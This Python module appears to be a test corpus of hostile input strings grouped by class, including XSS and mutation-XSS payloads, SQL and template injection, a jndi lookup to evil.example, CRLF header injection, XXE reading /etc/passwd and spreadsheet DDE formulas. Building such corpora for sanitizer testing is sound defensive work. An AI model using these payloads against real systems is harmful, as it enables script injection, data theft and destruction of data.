"""Strings that somebody might type to make a browser do something, or a reader see something else."""

EVENTS = [
    f"<{tag} {event}=alert(1)>"
    for tag, event in [
        ("img src=x", "onerror"), ("svg", "onload"), ("body", "onload"), ("input autofocus", "onfocus"), ("details open", "ontoggle"),
        ("video src=x", "onerror"), ("audio src=x", "onerror"), ("marquee", "onstart"), ("select autofocus", "onfocus"),
        ("textarea autofocus", "onfocus"), ("keygen autofocus", "onfocus"), ("p", "onmouseover"), ("b", "onpointerenter"),
        ("a href=#", "onclick"), ("div style=animation-name:x", "onanimationstart"), ("form", "onsubmit"), ("iframe", "onload"),
        ("object data=x", "onerror"), ("p", "ONCLICK"), ("p", "oNcLiCk"), ("p/", "onclick"), ("p\tx", "onclick"), ("p\n", "onclick"),
        ("p\x0c", "onclick"), ("p contenteditable", "onbeforeinput"), ("math", "onclick"), ("ul", "oncopy"), ("td", "onwheel"),
    ]
]  # fmt: skip

SCRIPTS = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script src=//evil.example/x.js></script>",
    "<script/src=data:,alert(1)>",
    "<script\x20type=module>import('//evil.example')</script>",
    "<script\x00>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "</script><script>alert(1)</script>",
    "<!--<script>alert(1)</script>-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>p{background:url(javascript:alert(1))}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<title></title><script>alert(1)</script>",
    "<textarea></textarea><script>alert(1)</script>",
    "<plaintext><script>alert(1)</script>",
    "<xmp><script>alert(1)</script></xmp>",
]

FRAMES = [
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<portal src=//evil.example></portal>",
    "<form action=javascript:alert(1)><button>Click</button></form>",
    "<form action=//evil.example><input name=phrase><button>Send</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1) type=image>",
    "<input type=image src=x onerror=alert(1)>",
    "<img src=//evil.example/pixel.gif>",
    "<img srcset='//evil.example/1 1x'>",
    "<picture><source srcset=//evil.example/x></picture>",
    "<video poster=//evil.example/x></video>",
    "<audio src=//evil.example/x autoplay></audio>",
    "<table background=//evil.example/x><tr><td>x</td></tr></table>",
    "<p style='background:url(//evil.example/x)'>x</p>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<div id=exit class=exit>x</div>",
    "<dialog open>x</dialog>",
]

LINKS = [
    f"<a href='{address}'>x</a>"
    for address in [
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "\tjavascript:alert(1)", "java\tscript:alert(1)",
        "java\nscript:alert(1)", "java\rscript:alert(1)", "java\x00script:alert(1)", "\x01javascript:alert(1)", "javascript&colon;alert(1)",
        "javascript&#58;alert(1)", "javascript&#x3a;alert(1)", "&#106;avascript:alert(1)", "&#0000106avascript:alert(1)",
        "vbscript:msgbox(1)", "livescript:x", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD4=",
        "data:image/svg+xml,<svg onload=alert(1)>", "blob:https://x/1", "file:///etc/passwd", "view-source:javascript:alert(1)",
        "feed:javascript:alert(1)", "jar:javascript:x", "intent://x#Intent;end", "ms-word:ofe|u|http://x", "javascript://%0aalert(1)",
        "javascript:alert(1)//https://good.example", "unknown:x", "\u2028javascript:alert(1)",
    ]
]  # fmt: skip

MUTATIONS = [
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><p><style><!--</style><img src=x onerror=alert(1)>--></style>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1)></svg>",
    "<svg><foreignObject><iframe onload=alert(1)></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,x#x'></use></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<noembed><img src=x onerror=alert(1)></noembed>",
    "<p title='`-alert(1)-`'>x</p>",
    "<a title='x' title='y' href='/nl/' onclick='alert(1)' href='javascript:alert(1)'>x</a>",
    "<b <script>alert(1)</script>0",
    '<img """><script>alert(1)</script>">',
    '<a href="/nl/"onclick="alert(1)">x</a>',
    "<p\u00a0onclick=alert(1)>x</p>",
    "<p\u3000onclick=alert(1)>x</p>",
    "<ol start='1\" onclick=alert(1)'><li>x</li></ol>",
    "<abbr title='\"><img src=x onerror=alert(1)>'>x</abbr>",
    "<p lang='\"><script>alert(1)</script>'>x</p>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)",
    "&#60;img src=x onerror=alert(1)&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)",
]

TEXTS = [
    "{{ 7*7 }}", "{% load x %}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{request.COOKIES}}", "[[7*7]]", "=cmd|'/c calc'!A1", "@SUM(1)",
    "+1", "-1", "' OR 1=1 --", "\"; DROP TABLE x; --", "../../etc/passwd", "\x00", "a\x00b", "\x1b[31mred", "a\r\nSet-Cookie: x=1",
    "\u202egnp.exe", "a\u202eb\u202cc", "\u2066x\u2069", "\ufeffx", "\u200bx\u200d", "e" + "\u0301" * 200,
    "\U0001f469\u200d\U0001f467", "\ud7ff\ue000", "\ufffe\uffff", "https://good.example/\"onmouseover=alert(1)",
    "https://good.example/'onmouseover=alert(1)", "https://good.example/<script>alert(1)</script>",
    "https://good.example/`onclick=alert(1)", "http://[::1]/", "https://good.example/?a=1&lt;b&amp;c=\"", "javascript:alert(1)",
    "http:javascript:alert(1)", "https://a.example\u202e/moc.live", "http://" + "a" * 3000 + ".example/", "<" * 500, "<a " * 200,
    "&" * 500, "<p>" * 300,
]  # fmt: skip

OUT_OF_ATTRIBUTES = [
    f"{out}{then}"
    for out, then in [
        ('"', " onfocus=alert(1) autofocus x="), ("'", " onfocus=alert(1) autofocus x="), ("`", " onfocus=alert(1) autofocus x="),
        ('"', "><svg/onload=alert(1)>"), ("'", "><svg/onload=alert(1)>"), ('" ', "style=position:fixed;inset:0 "),
        ('"/>', "<img src=//evil.example/p>"), ("&quot;", " onclick=alert(1) x=&quot;"), ("&#34;", "><script>alert(1)</script>"),
        ("&#x27;", "-alert(1)-&#x27;"), ("\\\"", ";alert(1)//"), ("\\u0022", "><img src=x onerror=alert(1)>"),
        ("]]>", "<img src=x onerror=alert(1)>"), ("-->", "<img src=x onerror=alert(1)>"), ("--!>", "<img src=x onerror=alert(1)>"),
        ("*/", "alert(1)/*"), ("</textarea>", "<img src=x onerror=alert(1)>"), ("</title>", "<img src=x onerror=alert(1)>"),
        ("</option></select>", "<img src=x onerror=alert(1)>"), ("</button>", "<button onclick=alert(1)>"),
        ("</form>", "<form action=//evil.example>"), ("</main></body>", "<body onload=alert(1)>"),
        ("</iframe>", "<img src=x onerror=alert(1)>"), ("</style>", "<img src=x onerror=alert(1)>"),
        ("</noscript>", "<img src=x onerror=alert(1)>"), ("</template>", "<img src=x onerror=alert(1)>"),
        ("x\" formaction=", "javascript:alert(1) y=\""), ("x\" popovertarget=", "exit autofocus y=\""),
        ("x\" accesskey=", "x onclick=alert(1) y=\""), ("x\" form=", "exit name=exit value=1 y=\""),
    ]
]  # fmt: skip

BARE_ADDRESSES = [
    "https://user:pass@good.example:443/", "https://good.example@evil.example/", "https://good.example\\@evil.example/",
    "https:evil.example", "https:/evil.example", "https:///evil.example", "//evil.example/x", "\\\\evil.example\\share",
    "HTTPS://GOOD.EXAMPLE/", "hxxps://evil.example", "https://127.0.0.1:22/", "http://0x7f000001/", "http://2130706433/",
    "http://localhost/admin/", "https://xn--80ak6aa92e.com/", "https://\u0430pple.com/", "https://good.example/\u2025/\u2025/",
    "https://good.example/#<img src=x onerror=alert(1)>", "https://good.example/?q=%22%3E%3Cscript%3E",
    "https://good.example/x)onclick=alert(1)", "https://good.example/;onclick=alert(1)", "https://good.example/\\\"onclick=alert(1)",
    "https://good.example/{{7*7}}", "mailto:a@evil.example?bcc=b@evil.example&body=x", "tel:+32*#06#", "sms:112?body=x", "geo:0,0",
    "ftp://evil.example/x", "ws://evil.example/", "about:blank", "chrome://settings", "javascript&#0000058alert(1)",
    "j\u0430vascript:alert(1)", "vbscript:x", "data:,x", "filesystem:https://x/y", "mhtml:http://evil.example!x", "a@evil.example",
    "www.evil.example", "https://[javascript:alert(1)]/", "http://a.example/http://b.example/<b>", "https://good.example/\u200b\"x",
]  # fmt: skip

TEMPLATES = [
    "{%% csrf_token %%}", "{% include '/etc/passwd' %}", "{% debug %}", "{{ settings.SECRET_KEY }}", "{{ ''.__class__.__mro__ }}",
    "{% endblock %}", "{# x #}", "{{ x|safe }}", "%(name)s %(x)d %s %n", "{0.__class__} {name!r} {}", "${jndi:ldap://evil.example/a}",
    "#set($x=7*7)$x", "<#assign x=7*7>${x}", "@(7*7)", "{php}echo 7{/php}", "{{constructor.constructor('alert(1)')()}}",
    "<div v-html=\"'x'\" x-data ng-app>", "{team} {helper} {hours} {days}", "{{=<% %>=}}<%7*7%>",
]  # fmt: skip

STYLES = [
    "<div style=width:expression(alert(1))>", "<p style='behavior:url(x.htc)'>", "<p style=\"-moz-binding:url('//evil.example/x')\">",
    "</style><style>*{display:none}</style>", "@import url(//evil.example/x.css);",
    "input[value^=a]{background:url(//evil.example/a)}", "<b style=--x:url(//evil.example)>",
    "<link rel=prefetch href=//evil.example/x>", "<p class='exit message private__note sr-only' hidden>",
    "<style media=print>body:after{content:url(//evil.example/p)}</style>", "}}</style>{{", "\\3c img src=x onerror=alert(1)\\3e",
]  # fmt: skip

DIRECTIONS = [
    "\u202dabc\u202c", "\u202aabc\u202c", "\u202babc\u202c", "\u2067abc", "\u2068abc\u2069", "\u061cabc", "\u200fabc\u200e",
    "\u05d0\u05d1 112 \u05d2", "\u0645\u0631\u062d\u0628\u0627 <b>", "\u2028line\u2029paragraph", "\u0085next", "\u00ad" * 50,
    "a\u034fb\u2060c\u2064d", "\U000e0041\U000e0042tag", "\ufe0f\ufe0e", "\u180ex\u3164y\u115fz",
    "\u206a\u206b\u206c\u206d\u206e\u206f",
]  # fmt: skip

DATABASES = [
    "'; DELETE FROM sharing_share; --", "1) OR (1=1", "x' UNION SELECT password FROM accounts_user--", "\\'; DROP TABLE x;--",
    "%' AND '1'='1", "admin'/*", "' || pg_sleep(9) || '", "$$; SELECT 1; $$", "x'); ATTACH DATABASE '/tmp/x' AS x;--", '{"$gt": ""}',
    '{"__proto__": {"x": 1}}', "*)(uid=*))(|(uid=*", "' or count(//*)=1 or '", "EVAL \"return 1\" 0\r\nFLUSHALL", "\x1a",
    "LIKE %_%\\_",
]  # fmt: skip

HEADERS = [
    "x\r\nSet-Cookie: s=1", "x\nLocation: //evil.example", "x\r\n\r\n<html>", "x%0d%0aSet-Cookie:%20s=1",
    "x\u560d\u560aSet-Cookie: s=1", "x\rRefresh: 0;url=//evil.example", "HTTP/1.1 200 OK\r\nContent-Length: 0",
    "a; filename=\"x.html\"; x=\"", "\x1b]0;title\x07", "\x1b[2J\x1b[H", "\x08\x08\x08x", "\x7f\x80\x9f",
]  # fmt: skip

MAILS = [
    "x\r\nBcc: all@evil.example", "Subject: x\nTo: a@evil.example", "=?utf-8?q?=0ABcc:_a@evil.example?=", ".\r\nQUIT", "\n.\n",
    "From here on", "--boundary\r\nContent-Type: text/html", "a@b.example\n\n<script>alert(1)</script>",
    "BEGIN:VCALENDAR\r\nATTACH:file:///etc/passwd", "x\r\nEND:VEVENT\r\nBEGIN:VALARM", "x;ALTREP=\"cid:x\":y",
]  # fmt: skip

PRINTS = [
    "/JavaScript (app.alert(1))", "<< /S /JavaScript /JS (app.alert(1)) >>", "%PDF-1.7", "endstream endobj", ") Tj ET (",
    "/URI (javascript:alert(1))", "/Launch /F (calc.exe)", "%%EOF", "\\) /AA << /O 1 0 R >>",
    "<link rel=attachment href=file:///etc/passwd>", "<img src=file:///etc/passwd>", "<p style='background:url(file:///etc/passwd)'>",
    "<a href=file:///etc/passwd>x</a>",
]  # fmt: skip

DRAWINGS = [
    "<svg><script>alert(1)</script></svg>", "<svg><script href=data:,alert(1) />", "<svg><set attributeName=onmouseover to=alert(1)>",
    "<svg><image href=//evil.example/x>", "<svg><feImage href=//evil.example/x>",
    "<svg><title><img src=x onerror=alert(1)></title></svg>", "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
    "<?xml-stylesheet href=//evil.example/x?>", "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "<!DOCTYPE x [<!ENTITY a 'a'><!ENTITY b '&a;&a;'>]>&b;", "<svg xmlns=http://www.w3.org/2000/svg onload=alert(1)/>",
    "<svg><handler xmlns:ev='x' ev:event=load>alert(1)</handler>",
]  # fmt: skip

REPARSED = [
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><mtext><option><FAKE><option></option><mglyph><svg><mtext><style><a title='</style><img src=x onerror=alert(1)>'>",
    "<table><td><svg><desc><td><img src=x onerror=alert(1)>", "<select><template><img src=x onerror=alert(1)></template>",
    "<svg></br><img src=x onerror=alert(1)>", "<b><a><b><i></a><img src=x onerror=alert(1)>",
    "<p><svg><![CDATA[<img src=x onerror=alert(1)>]]>", "<a><a><a><table><a>", "<table><form><input formaction=x></table>",
    "<!-- --!><img src=x onerror=alert(1)> -->", "<x/><y:z onclick=alert(1)>", "<image src=x onerror=alert(1)>",
    "<img src=x:x onerror\n=alert(1)>", "<%00script>alert(1)</script>", "<\u00a0script>alert(1)</script>",
    "<sc\u0000ript>alert(1)</sc\u0000ript>", "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
    "<input type=hidden name=token value=x>", "<input name=send value=1>", "<button name=exit value=1 form=exit>",
    "<a id=exit name=csrfmiddlewaretoken>", "<form id=reply><input name=action>",
]  # fmt: skip

SPELLINGS = [
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "\ufe64img src=x onerror=alert(1)\ufe65", "\u2039script\u203a",
    "\u02ba onclick=alert(1) \u02ba", "\uff02\uff07", "\u212a \u212b \u017f", "\ufdfa" * 20, "\u1e9b\u0323", "\u0130\u0131",
    "\ufb00\ufb03 \u2460 \u00bd", "A\u030a \u00c5", "\u1100\u1161\u11a8 \uac01", "\u0344\u0f73",
    "z\u0335\u0321\u0322\u0489a\u0337l\u0338g\u0336o", "\u4e00" * 300, "\u0e01\u0e33" * 50, "+ADw-script+AD4-", "\u00c0\u00bc script",
    "\x3cscript\x3e", "\\x3cscript\\x3e", "&lt;&#x3C;&LT;&#60", "&notit; &copy &AMP;lt;", "\ufffd\ufffd", "\U0010ffff",
]  # fmt: skip

RUNS = [
    "a" * 1990, "\n" * 400 + "x", " " * 900 + "x", "\t" * 300 + "x", "-" * 1500, "ab " * 600, "w\u0301" * 700, "\U0001f600" * 400,
    "https://a.example/ " * 100, "(" * 900 + ")" * 900, "'" * 1000, "\\" * 1000, "%" * 1000, "{{" * 500,
]  # fmt: skip

PICTURES = [
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466", "\U0001f1e7\U0001f1ea", "\U0001f44d\U0001f3ff",
    "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f", "1\ufe0f\u20e3", "\u2764\ufe0f", "\U0001fae0",
    "\U000f0000", "\ue000",
]  # fmt: skip

FORMULAS = [
    "=HYPERLINK(\"http://evil.example\",\"x\")", "=IMPORTXML(\"http://evil.example\",\"//a\")", "+cmd|'/c calc'!A0",
    "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\uff1d1+1", "\"=1+1\"", "@A1", "=DDE(\"cmd\";\"/C calc\";\"x\")", "|calc",
    "%0A=1+1",
]  # fmt: skip

CLASSES = {
    "events": EVENTS, "scripts": SCRIPTS, "frames": FRAMES, "links": LINKS, "mutations": MUTATIONS, "texts": TEXTS,
    "out of attributes": OUT_OF_ATTRIBUTES, "bare addresses": BARE_ADDRESSES, "templates": TEMPLATES, "styles": STYLES,
    "directions": DIRECTIONS, "databases": DATABASES, "headers": HEADERS, "mails": MAILS, "prints": PRINTS, "drawings": DRAWINGS,
    "reparsed": REPARSED, "spellings": SPELLINGS, "runs": RUNS, "pictures": PICTURES, "formulas": FORMULAS,
}  # fmt: skip
HOSTILE = [text for texts in CLASSES.values() for text in texts]
